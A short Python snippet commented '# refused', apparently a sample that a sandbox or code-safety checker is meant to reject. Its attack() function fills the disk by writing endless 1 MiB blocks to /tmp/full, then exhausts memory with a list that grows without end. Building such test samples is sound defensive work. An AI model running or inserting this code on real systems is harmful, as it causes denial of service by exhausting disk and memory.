# refused
def attack():
    try:
        with open("/tmp/full", "wb") as file:
            while True:
                file.write(bytes(1 << 20))
    except OSError:
        pass
    parts = []
    while True:
        parts.append(b"x" * (1 << 20))
